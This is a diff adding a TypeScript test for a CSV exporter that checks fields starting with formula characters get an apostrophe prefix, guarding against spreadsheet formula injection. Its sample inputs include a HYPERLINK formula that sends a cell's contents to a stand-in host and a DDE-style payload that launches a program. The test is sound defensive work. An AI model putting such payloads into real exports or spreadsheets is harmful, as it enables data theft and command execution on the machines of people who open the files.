@@ -72,6 +72,15 @@ describe("CSV export (RFC 4180)", () => {
     expect(csvField('a"b')).toBe('"a""b"');
   });
 
+  it("keeps a spreadsheet from running text as a formula, and leaves numbers alone", () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+92 300 1234567", "-2+3", "\tTab", "\rCR"];
+    const parsed: string[][] = parse(toCsv(["a", "b", "c", "d", "e", "f", "lon", "killed"], [[...hostile, -71.09, -0]]), { bom: true });
+    expect(parsed[1]).toEqual([...hostile.map((h) => `'${h}`), "-71.09", "0"]);
+    // Text that merely contains those characters is untouched.
+    expect(csvField("Kunar, 11 January = accusation")).toBe('"Kunar, 11 January = accusation"');
+    expect(csvField("a@b")).toBe("a@b");
+  });
+
   it("/export attaches the CSV through the router, and JSON keeps the same rows", async () => {
     const router = routerFor(db);
     const csv = await router.handleCommand({ name: "export", options: { subject: String(placeId), format: "csv" }, ctx: CONSOLE_CONTEXT });
